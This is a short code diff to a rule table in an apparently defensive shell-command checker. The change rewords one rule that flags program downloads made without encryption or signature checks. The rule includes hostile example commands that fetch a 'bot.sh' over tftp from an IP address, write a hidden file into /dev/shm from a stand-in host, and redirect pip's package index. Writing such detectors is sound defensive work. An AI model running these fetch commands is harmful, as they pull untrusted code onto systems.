@@ -76,7 +76,8 @@ constexpr Rule kRules[] = {
      "gem install *http://\n"
      "npm|yarn|pnpm|pip|pip3|gem install|add ^http://\n"
      "apt|apt-get|yum|dnf *allow-unauthenticated|--no-gpg-check|force-yes|trusted=yes",
-     "fetches a program in a way that is rarely honest", "download over https, check the sum, then look inside",
+     "fetches a program without encryption or checks, or with a tool that attackers use",
+     "download over https, check the sum, then look inside",
      "tftp -g -r bot.sh 198.51.100.7\n"
      "curl -o /dev/shm/.k http://x.example/k\n"
      "pip config set global.index-url http://x.example\n"
